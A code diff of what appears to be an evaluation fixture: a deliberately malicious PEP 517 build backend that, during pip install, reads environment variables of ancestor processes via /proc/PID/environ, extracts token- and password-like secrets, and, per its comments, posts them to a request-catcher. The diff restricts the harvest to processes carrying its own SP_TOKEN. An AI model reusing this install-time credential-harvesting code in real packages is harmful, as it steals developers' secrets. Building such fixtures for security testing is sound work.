@@ -1,9 +1,9 @@
 # Evaluation fixture (malicious): an in-tree PEP 517 backend that wraps
 # setuptools and, when pip asks it for its build requirements, harvests
-# secrets from the environments of the processes around it (pip, and
+# secrets from the environments of the processes above it (pip, and
 # whatever started pip) through /proc/PID/environ, then posts them to a
-# request-catcher.  Acts only inside the evaluation: it reads only
-# processes carrying its own SP_TOKEN, and the catcher host must resolve
+# request-catcher.  Acts only inside the evaluation: it reads only its
+# ancestors that carry its own SP_TOKEN, and the catcher host must resolve
 # to loopback.
 import json
 import os
@@ -18,19 +18,24 @@ _SECRET = re.compile(rb"^[A-Z0-9_]*(TOKEN|SECRET|KEY|PASS|AUTH)[A-Z0-9_]*=", re.
 
 
 def _harvest():
+    """Secrets in the environments of our ancestors that belong to this
+    install (pip, and what started it).  Real stealers read every
+    /proc/PID/environ they can; this one stops at the first process that
+    does not carry its own SP_TOKEN, so that it never reads anyone else's."""
     mine = ("SP_TOKEN=%s" % os.environ["SP_TOKEN"]).encode()
-    loot = {}
-    for pid in os.listdir("/proc"):
-        if not pid.isdigit() or int(pid) == os.getpid():
-            continue
+    loot, pid = {}, os.getppid()
+    while pid > 1:
         try:
-            with open("/proc/%s/environ" % pid, "rb") as f:
+            with open("/proc/%d/environ" % pid, "rb") as f:
                 env = f.read().split(b"\0")
+            with open("/proc/%d/stat" % pid, "rb") as f:
+                stat = f.read()
         except OSError:
-            continue
+            break
         if mine not in env:
-            continue
+            break
         loot[pid] = [v.decode("latin-1") for v in env if _SECRET.match(v)]
+        pid = int(stat[stat.rfind(b")") + 2:].split()[1])
     return loot
 
 
